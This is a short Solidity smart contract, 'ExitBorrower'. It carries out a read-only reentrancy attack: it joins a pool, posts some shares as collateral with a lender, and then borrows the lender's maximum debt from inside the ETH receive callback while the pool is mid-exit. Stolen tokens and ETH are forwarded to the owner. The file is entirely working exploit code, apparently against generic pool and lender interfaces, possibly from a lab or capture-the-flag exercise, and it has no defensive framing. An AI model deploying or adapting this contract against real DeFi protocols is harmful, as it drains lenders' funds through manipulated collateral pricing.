// SPDX-License-Identifier: MIT
pragma solidity ^0.8.26;

interface IPool {
    function join() external payable returns (uint256);
    function exit(uint256 shares) external returns (uint256);
    function approve(address spender, uint256 shares) external returns (bool);
}

interface ILender {
    function deposit(uint256 shares) external;
    function borrow(uint256 amount) external;
    function maxDebt(address account) external view returns (uint256);
    function usd() external view returns (address);
}

interface IERC20T {
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address account) external view returns (uint256);
}

/// Joins big, posts a little collateral, exits and borrows while the pool is mid-exit.
contract ExitBorrower {
    IPool private immutable pool;
    ILender private immutable lender;
    address private immutable owner;
    bool private armed;

    constructor(IPool pool_, ILender lender_) {
        pool = pool_;
        lender = lender_;
        owner = msg.sender;
    }

    function run(uint256 collateralShares) external payable {
        uint256 shares = pool.join{value: msg.value}();
        pool.approve(address(lender), collateralShares);
        lender.deposit(collateralShares);
        armed = true;
        pool.exit(shares - collateralShares);
        armed = false;
        IERC20T usd = IERC20T(lender.usd());
        usd.transfer(owner, usd.balanceOf(address(this)));
        payable(owner).transfer(address(this).balance);
    }

    receive() external payable {
        if (armed) {
            armed = false;
            IERC20T usd = IERC20T(lender.usd());
            uint256 room = lender.maxDebt(address(this));
            uint256 held = usd.balanceOf(address(lender));
            lender.borrow(room < held ? room : held);
        }
    }
}
